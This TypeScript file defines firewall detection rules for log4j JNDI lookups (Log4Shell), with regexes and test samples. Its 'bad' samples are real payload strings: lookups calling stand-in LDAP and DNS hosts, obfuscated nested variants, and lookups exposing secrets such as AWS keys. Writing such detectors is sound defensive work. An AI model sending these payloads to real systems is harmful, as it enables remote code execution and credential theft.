import type { Rule } from '../../rule.ts';
import { valuesAndHeaders } from '../words.ts';

const everywhere = [...valuesAndHeaders, 'content_type', 'file_names'] as const;
/** A dollar and a brace, also as they are written for HTML, JavaScript and addresses. */
const dollar = String.raw`(?:\$|&#0*36;?|&#x0*24;?|&dollar;|%24|\\u0024|\\x24)`;
const brace = String.raw`(?:\{|&#0*123;?|&#x0*7b;?|&l(?:brace|cub);|%7b|\\u007b|\\x7b)`;

/** Lookups of log4j (CVE-2021-44228, CVE-2021-45046), wherever they may be logged. */
export const javaLookupRules: readonly Rule[] = [
  {
    id: 'java-jndi',
    family: 'java',
    severity: 'critical',
    paranoia: 1,
    stops: 'Lookups of log4j by JNDI (CVE-2021-44228).',
    in: everywhere,
    screen: 'lookup',
    when: [
      {
        regex:
          dollar +
          brace +
          String.raw`\s*(?:jndi|j\s*n\s*d\s*i)\s*(?::|&colon;|%3a|\$)|jndi:(?:ldaps?|rmi|dns|iiop|nis|nds|corba|http)s?:/|` +
          dollar +
          brace +
          String.raw`[^\n]{0,200}\bndi\s*:`,
      },
    ],
    bad: [
      '${jndi:ldap://x.example/a}',
      { headers: { 'user-agent': '&#x24;&#000123;jndi:ldap://x.example/w}' } },
      '$&LBRACE;jndi:ldap://x/w}',
      '${${env:FOO:-j}ndi:ldap://x/w}',
      { headers: { 'x-api-version': '${jndi:dns://x.example}' } },
    ],
    good: ['What is JNDI?', '${name}', 'java:comp/env'],
  },
  {
    id: 'java-nested-lookup',
    family: 'java',
    severity: 'critical',
    paranoia: 1,
    stops: 'Lookups of log4j within lookups, which hide what they are.',
    in: everywhere,
    screen: 'lookup',
    when: [
      {
        regex:
          dollar +
          brace +
          String.raw`\s*(?:(?:lower|upper|date|base64|marker|bundle|log4j|k8s|event|map|main|jvmrunargs|sd|ctx|web)\s*:|::-|\W{0,3}:-)|` +
          dollar +
          brace +
          String.raw`[\w:.-]{0,60}:-[^}\s]{0,2}\}|` +
          dollar +
          brace +
          String.raw`[^}\n]{0,60}:-` +
          dollar +
          String.raw`?\W{0,3}` +
          brace,
      },
    ],
    bad: [
      '${${lower:j}ndi:x}',
      '${${::-j}${::-n}di:x}',
      '${${env:A:-j}x}',
      '$${env:x:-${env:x:-$}{jndi:ldap://x/w}}}',
      '${upper:x}',
      "${date:'j'}",
    ],
    good: ['${PORT:-8080}', '${name}', '${date}', 'a ${b ? `${c}` : d}'],
  },
  {
    id: 'java-lookup-secret',
    family: 'java',
    severity: 'critical',
    paranoia: 1,
    stops: 'Lookups of variables of the environment and of the system as the value itself.',
    in: everywhere,
    screen: 'lookup',
    when: [
      {
        regex:
          String.raw`^\S{0,40}` +
          dollar +
          brace +
          String.raw`(?:env|sys|java|docker|spring|hostname|script|dns|url|const|file|properties|xml|resourcebundle|urldecoder)\s*:[^\s}]{1,200}`,
      },
    ],
    bad: ['${env:AWS_SECRET_ACCESS_KEY}', '${sys:user.name}', '${script:javascript:x}', '${java:version}', '${url:UTF-8:http://a.example}'],
    good: ['set it by ${env:NAME} in your file', '${environment}'],
  },
];
